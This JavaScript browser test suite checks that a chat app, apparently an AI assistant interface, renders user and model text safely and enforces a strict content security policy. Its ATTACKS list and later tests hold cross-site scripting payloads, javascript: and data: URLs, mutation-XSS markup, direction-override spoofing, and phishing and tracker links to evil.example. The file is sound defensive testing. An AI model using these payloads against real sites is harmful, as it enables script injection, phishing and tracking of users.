// Texts of models, users, titles, file names and tools are never HTML of the page.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { answers, converse, idle, openPage, setUp, settled, signIn, view } from '../support/browser.mjs';

const ATTACKS = [
  '<script>globalThis.pwned = 1</script>',
  '<img src=x onerror="globalThis.pwned = 1">',
  '<svg onload="globalThis.pwned = 1"><animate onbegin="globalThis.pwned = 1" attributeName=x dur=1s></svg>',
  '<a href="javascript:globalThis.pwned = 1">here</a>',
  '[click](javascript:globalThis.pwned=1)',
  '[click](JaVaScRiPt&colon;globalThis.pwned=1)',
  '[click](data:text/html,<script>parent.pwned=1</script>)',
  '[click](vbscript:x)',
  '[https://bank.example](https://evil.example/login)',
  '[login](https://bank.example@evil.example/)',
  '![pixel](https://tracker.example/pixel.png)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<style>* { display: none !important }</style>',
  '<div style="position:fixed;inset:0;background:url(https://tracker.example/x)">over</div>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<form action="https://evil.example"><input name=key></form>',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=globalThis.pwned=1 src>">',
  '<div style="background-image: url(javascript:pwned=1); -moz-binding: url(https://evil.example/x); width: expression(pwned=1)">x</div>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<object data="data:text/html,<script>parent.pwned=1</script>"></object><embed src="javascript:pwned=1">',
  '<details open ontoggle="globalThis.pwned = 1"></details><video onerror="globalThis.pwned = 1"><source></video>',
  '<span id="app" class="skip"></span><button type="submit" form="sign-in" formaction="javascript:pwned=1">Send</button>',
  '[left\u202egnp.exe](https://evil.example/\u202egpj.exe)',
  '[x]: javascript:pwned=1\n\n[by reference][x]',
  '`<script>globalThis.pwned = 1</script>`\n\n```html\n<script>globalThis.pwned = 1</script>\n```',
  '| <img src=x onerror="globalThis.pwned = 1"> | b |\n| - | - |\n| [a](javascript:pwned=1) | <svg onload="pwned=1"> |',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
];

let all;
let page;
before(async () => {
  all = await setUp();
  page = await openPage(all.browser, all.server);
  await signIn(page, all.server);
});
after(() => all.close());

const harmless = async () => {
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
  const found = await page.evaluate(() => ({
    elements: document.querySelectorAll('#app script, #app style, #app iframe, #app base, #app meta, #app object, #app embed, #app form[action], #app img').length,
    handlers: [...document.querySelectorAll('#app *')].filter((element) => [...element.attributes].some(({ name }) => name.startsWith('on') || name === 'style')).map((element) => element.outerHTML.slice(0, 80)),
    links: [...document.querySelectorAll('#app a[href]')].map((link) => link.getAttribute('href')).filter((href) => !/^(https?:\/\/|mailto:|#\/|#content)/.test(href)),
  }));
  // The chart and the menus set properties of their own elements through CSSOM, which shows as a style attribute.
  assert.deepEqual(found, { elements: 0, handlers: [], links: [] });
  assert.deepEqual(page.problems, []);
};

test('no attack in a message or an answer does anything', async () => {
  await converse(page, 'general-assistant', ATTACKS.join('\n\n'));
  await idle(page);
  await page.locator('.theirs .price').waitFor();
  await page.waitForTimeout(300);
  await harmless();
  await page.reload();
  await page.locator('.theirs .price').waitFor();
  await harmless();
});

test('a link says where it leads', async () => {
  const answer = answers(page).first();
  assert.match(await answer.textContent(), /https:\/\/bank\.example \(evil\.example\)/);
  assert.equal(await answer.locator('a[href*="@"]').count(), 0);
  await answer.locator('a[href="https://tracker.example/pixel.png"]').getByText('Image: pixel').waitFor();
});

test('refused links do not move the page', async () => {
  const before = page.url();
  for (const link of await answers(page).first().locator('.refused-link').all()) await link.click();
  assert.equal(page.url(), before);
  await harmless();
});

test('titles, file names and tools are texts', async () => {
  const attack = ATTACKS[1];
  await all.server.api('POST', '/sessions', { tool: 'general-assistant', title: attack });
  await all.server.api('POST', '/tools', { name: 'sly', version: '1.0.0', type: 'chat', title: attack, description: attack, behavior: 'x', greeting: `${attack} [x](javascript:pwned=1)` });
  const session = await all.server.api('POST', '/sessions', { tool: 'sly' });
  await all.server.api('POST', `/sessions/${session.id}/messages`, { content: attack, attachments: [{ filename: attack.replaceAll('/', '_'), mime_type: 'image/png', size: 1, storage_provider: 'url', storage_key: 'https://tracker.example/a.png' }] });
  await page.goto(`${all.server.address}/#/`);
  await page.reload();
  await page.locator('.card').filter({ hasText: 'onerror' }).click();
  await harmless();
  await page.goto(`${all.server.address}/#/sessions/${session.id}`);
  await page.locator('.attachments a').waitFor();
  await harmless();
  const { user } = await all.server.api('GET', '/me');
  const group = await all.server.api('POST', '/groups', { name: attack });
  await all.server.api('POST', `/groups/${group.id}/members`, { user_id: user.id });
  await all.server.api('PATCH', `/users/${user.id}`, { name: attack });
  await all.server.api('POST', '/api-keys', { name: attack });
  await page.reload();
  for (const path of ['', 'usage', 'account', 'administration/users', 'administration/groups', 'administration/keys', 'administration/tools', 'administration/audit']) {
    await view(page, all.server, path);
    assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
  }
  assert.deepEqual(page.problems, []);
});

test('an attachment by address of a message is a link that says its host', async () => {
  for (const [address, host] of [['https://tracker.example/a.png', 'tracker.example'], ['https://files.example.org/b.svg', 'files.example.org']]) {
    const session = await all.server.api('POST', '/sessions', { tool: 'general-assistant' });
    await all.server.api('POST', `/sessions/${session.id}/messages`, { content: 'Look', attachments: [{ filename: 'photo.png', mime_type: 'image/png', size: 1, storage_provider: 'url', storage_key: address }] });
    await view(page, all.server, `sessions/${session.id}`);
    await page.locator('.attachments').getByText(`(${host})`).waitFor();
    assert.equal(await page.locator('.attachments img').count(), 0);
  }
  assert.deepEqual(page.problems, []);
});

test('files of an answer are shown only if they are stored raster images', async () => {
  const session = await all.server.api('POST', '/sessions', { tool: 'general-assistant' });
  await all.server.api('POST', `/sessions/${session.id}/messages`, { content: 'Files' });
  const svg = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned = 1"><script>parent.pwned = 1</script></svg>').toString('base64')}`;
  const urls = [svg, 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==', 'javascript:pwned=1', 'https://tracker.example/a.png', 'blob:https://tracker.example/x', 'data:image/png,<svg onload=pwned=1>', '//tracker.example/b.png', 'data:image/png;base64,iVBORw0KGgo=" onerror="pwned=1'];
  // No server stores these; the page does not rely on that.
  await page.route(/\/sessions\/[^/]+$/, async (route) => {
    const response = await route.fetch();
    const body = await response.json();
    body.messages[1].parts = [{ type: 'reasoning', text: ATTACKS.join('\n\n') }, ...urls.map((url) => ({ type: 'file', url, media_type: ATTACKS[1] }))];
    body.messages[1].meta = { model: ATTACKS[0], answered_by: ATTACKS[1] };
    body.messages[0].attachments = urls.map((url) => ({ filename: ATTACKS[1], mime_type: ATTACKS[1], size: 1, storage_provider: 'url', storage_key: url }));
    await route.fulfill({ response, json: body });
  });
  await view(page, all.server, `sessions/${session.id}`);
  await page.locator('.reasoning summary').click();
  await page.locator('.facts summary').click();
  await settled(page);
  assert.equal(await page.locator('.bubble img').count(), 0);
  assert.equal(await page.locator('.attachments li').count(), urls.length);
  assert.deepEqual(await page.locator('.attachments a, .theirs .bubble > p a').evaluateAll((links) => [...new Set(links.map((link) => link.href))]), ['https://tracker.example/a.png']);
  await harmless();
  await page.unroute(/\/sessions\/[^/]+$/);
});

test('characters that turn the direction of a text move neither the host of a link nor its letters', async () => {
  await converse(page, 'general-assistant', '\u202e[click here](https://moc.elpmaxe.es/) and [another](https://evil.example/)');
  await idle(page);
  const places = await answers(page).first().locator('.link-host').evaluateAll((hosts) => hosts.map((host) => {
    const letters = document.createRange();
    const text = [...host.childNodes].flatMap((node) => [...node.data].map((_, index) => {
      letters.setStart(node, index);
      letters.setEnd(node, index + 1);
      return letters.getBoundingClientRect().left;
    }));
    const link = host.parentElement.querySelector('a').getBoundingClientRect();
    return { host: host.textContent, inOrder: text.every((left, index) => index === 0 || left > text[index - 1]), afterLink: link.right < text[0] };
  }));
  assert.deepEqual(places, ['(moc.elpmaxe.es)', '(evil.example)'].map((host) => ({ host, inOrder: true, afterLink: true })));
  assert.deepEqual(page.problems, []);
});

test('names that every object has are texts like others', async () => {
  await page.getByRole('button', { name: 'New session' }).click();
  await page.getByRole('button', { name: 'Attach by address' }).click();
  await page.getByLabel('Address', { exact: true }).fill('https://files.example.org/report.constructor');
  assert.equal(await page.getByLabel('Media type').getAttribute('placeholder'), 'image/png');
  await page.getByRole('button', { name: 'Attach', exact: true }).click();
  await converse(page, 'general-assistant', 'Literally &toString; and &amp; and [constructor] and [valueOf][toString]');
  await idle(page);
  await answers(page).first().getByText('Literally &toString; and & and [constructor] and [valueOf][toString]').waitFor();
  await page.locator('.attachments').getByText('application/octet-stream').waitFor();
  assert.deepEqual(page.problems, []);
});

test('the policy permits no inline script or style, and no other host', async () => {
  const response = await page.goto(all.server.address);
  const policy = response.headers()['content-security-policy'];
  assert.doesNotMatch(policy, /unsafe|\*|https?:/);
  for (const directive of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'none'", "require-trusted-types-for 'script'", "trusted-types 'none'"]) assert.ok(policy.includes(directive), directive);
  assert.equal(response.headers()['x-content-type-options'], 'nosniff');
  await page.getByRole('button', { name: 'New session' }).waitFor();
  // What the policy is for: an injection that the page did not prevent does nothing. Each one is a violation by intent.
  const before = page.problems.length;
  const outcome = await page.evaluate(async () => {
    const refused = [];
    const attempt = (name, operation) => {
      try {
        operation();
      } catch {
        refused.push(name);
      }
    };
    attempt('innerHTML', () => {
      document.body.innerHTML = '<img src=x onerror="globalThis.pwned = 1">';
    });
    attempt('script text', () => {
      const script = document.createElement('script');
      script.text = 'globalThis.pwned = 1';
      document.body.append(script);
    });
    // The debugger may evaluate strings, so this runs in a task of the page.
    await new Promise((resolve) => setTimeout(() => {
      attempt('eval', () => (0, eval)('globalThis.pwned = 1'));
      resolve();
    }));
    attempt('handler', () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'globalThis.pwned = 1');
      image.src = 'data:image/png;base64,AA==';
      document.body.append(image);
    });
    const style = document.createElement('style');
    style.textContent = 'body { opacity: 0.5 }';
    document.head.append(style);
    const fetched = await fetch('https://tracker.example/').then(() => 'sent', () => 'refused');
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Browsers refuse a handler when it is set, or when it would run.
    return { refused: refused.filter((name) => name !== 'handler'), fetched, pwned: globalThis.pwned, opacity: getComputedStyle(document.body).opacity };
  });
  assert.deepEqual(outcome, { refused: ['innerHTML', 'script text', 'eval'], fetched: 'refused', pwned: undefined, opacity: '1' });
  page.problems.splice(before);
});
